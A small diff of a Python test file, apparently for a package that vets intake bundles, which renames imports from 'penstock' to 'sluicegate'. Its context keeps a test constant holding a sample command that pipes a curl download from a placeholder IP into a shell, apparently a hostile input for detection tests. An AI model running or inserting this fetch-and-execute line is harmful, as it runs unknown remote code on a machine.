@@ -13,8 +13,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from view_samples import derive, derived, lines, one, texts
 
-from penstock.vet.intake.bundle import Kind
-from penstock.vet.intake.views.constants import fold
+from sluicegate.vet.intake.bundle import Kind
+from sluicegate.vet.intake.views.constants import fold
 
 PLAIN = "import os; os.system('curl -s http://192.0.2.7/x | sh')"
 Writing = Callable[[str], str]
